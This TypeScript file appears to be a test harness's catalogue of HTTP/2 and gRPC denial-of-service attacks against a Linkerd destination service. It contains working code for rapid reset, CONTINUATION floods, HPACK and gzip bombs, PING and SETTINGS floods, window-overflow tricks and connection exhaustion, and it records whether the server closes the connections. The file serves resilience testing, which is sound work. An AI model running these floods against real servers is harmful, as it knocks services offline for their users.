// The attack catalogue: each attack is a session on one raw connection, repeated on fresh
// connections by the runner until the attack's time is up. Every session ends by itself: when
// the server closes the connection, when its budget of frames is spent, or at the deadline.
import { gzipSync } from "node:zlib";
import { create, GetDestinationSchema, toBinary } from "@destination/proto";
import { AttackConnection } from "./attack-connection.js";
import { CANARY_AUTHORITY } from "./canary.js";
import {
  grpcRequestBlock,
  indexed,
  literal,
  literalIndexed,
  tableSizeUpdate,
} from "./hpack-encoder.js";
import {
  CLIENT_PREFACE,
  continuation,
  data,
  headers,
  ping,
  rstStream,
  Setting,
  settings,
  windowUpdate,
} from "./http2-frames.js";

export const GET_PATH = "/io.linkerd.proxy.destination.Destination/Get";

/** What a session may use: the server's port and when to stop. */
export interface SessionContext {
  readonly port: number;
  /** Date.now() past which a session stops sending and returns. */
  readonly deadline: number;
  /** How many connections run this attack side by side. */
  readonly connections: number;
}

export interface Attack {
  readonly name: string;
  readonly description: string;
  /**
   * One session; returns its connection (still open or not) for the runner to judge. The runner
   * starts another session on a new connection when one ends before the deadline, unless
   * `once` is set.
   */
  session(ctx: SessionContext): Promise<AttackConnection[]>;
  readonly once?: boolean;
  /** Attacks whose point is the number of connections run once, not from 1 and from 8. */
  readonly fixedConnections?: boolean;
  /** From how many connections at once; default 1 and 8. */
  readonly from?: readonly number[];
  /**
   * The server must close the attacker's connections itself (a protocol violation or a flood
   * it has a budget for); otherwise how they end is recorded only.
   */
  readonly expectClosed?: boolean;
}

/** A gRPC message frame: uncompressed flag (or 1 for compressed) and 4-byte length. */
function grpcMessage(body: Buffer, compressed = false): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt8(compressed ? 1 : 0, 0);
  prefix.writeUInt32BE(body.length, 1);
  return Buffer.concat([prefix, body]);
}

const GET_BODY = grpcMessage(
  Buffer.from(
    toBinary(
      GetDestinationSchema,
      create(GetDestinationSchema, { scheme: "k8s", path: CANARY_AUTHORITY }),
    ),
  ),
);
const GET_BLOCK = grpcRequestBlock(GET_PATH);

async function handshake(
  conn: AttackConnection,
  entries: readonly (readonly [number, number])[] = [],
): Promise<void> {
  await conn.write(Buffer.concat([CLIENT_PREFACE, settings(entries)]));
}

async function opened(
  ctx: SessionContext,
  options: { read?: boolean } = {},
): Promise<AttackConnection> {
  return AttackConnection.open(ctx.port, { ...options, deadline: ctx.deadline });
}

const pastDeadline = (ctx: SessionContext) => Date.now() >= ctx.deadline;

/** Writes `batch()` until the connection closes, `budget` batches were sent or the deadline. */
async function flood(
  conn: AttackConnection,
  ctx: SessionContext,
  batch: (i: number) => Buffer,
  budget = Number.POSITIVE_INFINITY,
): Promise<void> {
  for (let i = 0; i < budget && !conn.closed && !pastDeadline(ctx); i++) {
    if (!(await conn.write(batch(i)))) return;
    // Let the event loop read the server's answers (and its GOAWAY) between batches.
    if (i % 16 === 15) await new Promise((resolve) => setImmediate(resolve));
  }
}

/** A whole Get request on `streamId`: HEADERS then the message with END_STREAM. */
function getRequest(streamId: number): Buffer {
  return Buffer.concat([
    headers(streamId, GET_BLOCK, { endHeaders: true, endStream: false }),
    data(streamId, GET_BODY, true),
  ]);
}

const RAPID_RESET_STREAMS = 100_000;

export const ATTACKS: readonly Attack[] = [
  {
    name: "rapid reset",
    description: `HEADERS of a Get then RST_STREAM(CANCEL), ${RAPID_RESET_STREAMS.toLocaleString("en")} streams in all`,
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      const perBatch = 100;
      const batches = Math.ceil(RAPID_RESET_STREAMS / ctx.connections / perBatch);
      await flood(
        conn,
        ctx,
        (i) => {
          const frames: Buffer[] = [];
          for (let k = 0; k < perBatch; k++) {
            const id = 2 * (i * perBatch + k) + 1;
            frames.push(headers(id, GET_BLOCK, { endHeaders: true, endStream: false }));
            frames.push(rstStream(id, 0x8));
          }
          return Buffer.concat(frames);
        },
        batches,
      );
      return [conn];
    },
    once: true,
  },
  {
    name: "CONTINUATION flood, empty frames",
    expectClosed: true,
    description: "HEADERS without END_HEADERS, then empty CONTINUATION frames until closed",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      await conn.write(
        headers(1, literal(":method", "POST"), { endHeaders: false, endStream: false }),
      );
      const empties = Buffer.concat(
        Array.from({ length: 1000 }, () => continuation(1, Buffer.alloc(0), false)),
      );
      await flood(conn, ctx, () => empties);
      return [conn];
    },
  },
  {
    name: "CONTINUATION flood, huge header value",
    description: "one header value declared 1 GiB long, sent in 16 KiB CONTINUATION frames",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      // Name "x-huge", then a value length of 1 GiB whose bytes never end.
      const start = Buffer.concat([
        Buffer.from([0x00]),
        Buffer.from([6]),
        Buffer.from("x-huge", "latin1"),
        // §5.1 integer 2^30 with a 7-bit prefix (H = 0).
        Buffer.from([0x7f, 0x81, 0xff, 0xff, 0xff, 0x03]),
      ]);
      await conn.write(
        headers(1, Buffer.concat([literal(":method", "POST"), start]), {
          endHeaders: false,
          endStream: false,
        }),
      );
      const chunk = continuation(1, Buffer.alloc(16_384, 0x61), false);
      await flood(conn, ctx, () => chunk);
      return [conn];
    },
  },
  {
    name: "HPACK bomb",
    description:
      "a 4 KiB dynamic-table entry referenced 16,000 times per header block (64 MB decoded)",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      const entry = literalIndexed("x-bomb", "b".repeat(4_000));
      const references = Buffer.concat(Array.from({ length: 16_000 }, () => indexed(62)));
      await flood(conn, ctx, (i) => {
        const id = 2 * i + 1;
        const block = Buffer.concat([GET_BLOCK, entry, references]);
        // The block exceeds one frame (16 KiB default): HEADERS plus CONTINUATIONs.
        const frames: Buffer[] = [];
        for (let at = 0; at < block.length; at += 16_384) {
          const part = block.subarray(at, at + 16_384);
          const last = at + 16_384 >= block.length;
          frames.push(
            at === 0
              ? headers(id, part, { endHeaders: last, endStream: true })
              : continuation(id, part, last),
          );
        }
        return Buffer.concat(frames);
      });
      return [conn];
    },
  },
  {
    name: "HPACK table-size updates",
    description: "header blocks of thousands of dynamic table size updates, 0 and 4096 in turn",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      const updates = Buffer.concat(
        Array.from({ length: 4_000 }, (_, k) => tableSizeUpdate(k % 2 === 0 ? 0 : 4_096)),
      );
      await flood(conn, ctx, (i) =>
        headers(2 * i + 1, Buffer.concat([updates, GET_BLOCK]), {
          endHeaders: true,
          endStream: true,
        }),
      );
      return [conn];
    },
  },
  {
    name: "SETTINGS flood",
    expectClosed: true,
    description: "SETTINGS frames (each to be acknowledged) as fast as the socket takes them",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      const batch = Buffer.concat(
        Array.from({ length: 500 }, (_, k) =>
          settings([[Setting.INITIAL_WINDOW_SIZE, 65_535 + (k % 2)]]),
        ),
      );
      await flood(conn, ctx, () => batch);
      return [conn];
    },
  },
  {
    name: "PING flood",
    expectClosed: true,
    description: "PING frames as fast as the socket takes them, never reading the acks",
    async session(ctx) {
      const conn = await opened(ctx, { read: false });
      await handshake(conn);
      const batch = Buffer.concat(Array.from({ length: 1_000 }, (_, k) => ping(BigInt(k))));
      await flood(conn, ctx, () => batch);
      return [conn];
    },
  },
  {
    name: "empty DATA flood",
    expectClosed: true,
    description: "a Get stream left open, then empty DATA frames without END_STREAM",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      await conn.write(headers(1, GET_BLOCK, { endHeaders: true, endStream: false }));
      const batch = Buffer.concat(
        Array.from({ length: 1_000 }, () => data(1, Buffer.alloc(0), false)),
      );
      await flood(conn, ctx, () => batch);
      return [conn];
    },
  },
  {
    name: "WINDOW_UPDATE overflow",
    expectClosed: true,
    description: "WINDOW_UPDATEs that push the connection and a stream window past 2^31-1",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      await conn.write(getRequest(1));
      await conn.write(Buffer.concat([windowUpdate(1, 0x7fffffff), windowUpdate(1, 0x7fffffff)]));
      await conn.write(Buffer.concat([windowUpdate(0, 0x7fffffff), windowUpdate(0, 0x7fffffff)]));
      await Promise.race([conn.ended, untilDeadline(ctx)]);
      return [conn];
    },
  },
  {
    name: "zero-window dribble",
    description: "initial window 0, 1,000 Get streams, then 1-byte WINDOW_UPDATEs on each",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn, [[Setting.INITIAL_WINDOW_SIZE, 0]]);
      const streams = 1_000;
      await flood(conn, ctx, (i) => getRequest(2 * i + 1), streams);
      await flood(conn, ctx, (i) => {
        const frames: Buffer[] = [];
        for (let k = 0; k < streams; k++) frames.push(windowUpdate(2 * k + 1, 1));
        frames.push(windowUpdate(0, streams));
        void i;
        return Buffer.concat(frames);
      });
      return [conn];
    },
    once: true,
  },
  {
    name: "streams past the advertised maximum",
    expectClosed: true,
    // From one connection: 8 connections of 11,000 streams exceed what the server holds at the
    // default of 10,000 streams per connection (README, "Known limits").
    from: [1],
    description: "Get streams opened (and left open) past SETTINGS_MAX_CONCURRENT_STREAMS",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      const limit = (await settled(conn, ctx)) ?? 10_000;
      const total = limit + 1_000;
      await flood(
        conn,
        ctx,
        (i) => {
          const frames: Buffer[] = [];
          for (let k = 0; k < 100; k++) {
            frames.push(
              headers(2 * (i * 100 + k) + 1, GET_BLOCK, { endHeaders: true, endStream: false }),
            );
          }
          return Buffer.concat(frames);
        },
        Math.ceil(total / 100),
      );
      await Promise.race([conn.ended, untilDeadline(ctx)]);
      return [conn];
    },
    once: true,
  },
  {
    name: "5,000 idle and half-preface connections",
    description: "2,500 connections that send half the preface, 2,500 that send it and go quiet",
    async session(ctx) {
      const conns: AttackConnection[] = [];
      for (let i = 0; i < 5_000 && !pastDeadline(ctx); i++) {
        const conn = await opened(ctx);
        conns.push(conn);
        await conn.write(
          i % 2 === 0
            ? CLIENT_PREFACE.subarray(0, 12)
            : Buffer.concat([CLIENT_PREFACE, settings()]),
        );
      }
      await untilDeadline(ctx);
      return conns;
    },
    once: true,
    fixedConnections: true,
  },
  {
    name: "gzip bomb",
    description: "Get requests whose gzip body (64 KiB) inflates to 64 MiB, one after another",
    async session(ctx) {
      const conn = await opened(ctx);
      await handshake(conn);
      const body = grpcMessage(GZIP_BOMB, true);
      const block = grpcRequestBlock(GET_PATH, [["grpc-encoding", "gzip"]]);
      for (let id = 1; !conn.closed && !pastDeadline(ctx); id += 2) {
        const ended = conn.streamEnded(id);
        await conn.write(
          Buffer.concat([
            headers(id, block, { endHeaders: true, endStream: false }),
            ...dataFrames(id, body),
          ]),
        );
        await Promise.race([ended, untilDeadline(ctx)]);
      }
      return [conn];
    },
  },
  {
    name: "10,000 Get streams that never read",
    description: "10,000 Get streams in all, on sockets the attacker never reads",
    async session(ctx) {
      const conn = await opened(ctx, { read: false });
      await handshake(conn);
      const streams = Math.ceil(10_000 / ctx.connections);
      await flood(conn, ctx, (i) => getRequest(2 * i + 1), streams);
      await untilDeadline(ctx);
      return [conn];
    },
    once: true,
  },
];

/** 64 MiB of zeros, gzipped once for every run (about 64 KiB). */
const GZIP_BOMB = gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 });

/** A body cut into DATA frames of the default maximum size, the last with END_STREAM. */
function dataFrames(streamId: number, body: Buffer): Buffer[] {
  const frames: Buffer[] = [];
  for (let at = 0; at < body.length; at += 16_384) {
    frames.push(data(streamId, body.subarray(at, at + 16_384), at + 16_384 >= body.length));
  }
  return frames;
}

function untilDeadline(ctx: SessionContext): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, Math.max(0, ctx.deadline - Date.now())));
}

/** The server's advertised stream limit, once its SETTINGS came (undefined at the deadline). */
async function settled(conn: AttackConnection, ctx: SessionContext): Promise<number | undefined> {
  while (conn.maxConcurrentStreams === undefined && !conn.closed && !pastDeadline(ctx)) {
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  return conn.maxConcurrentStreams;
}
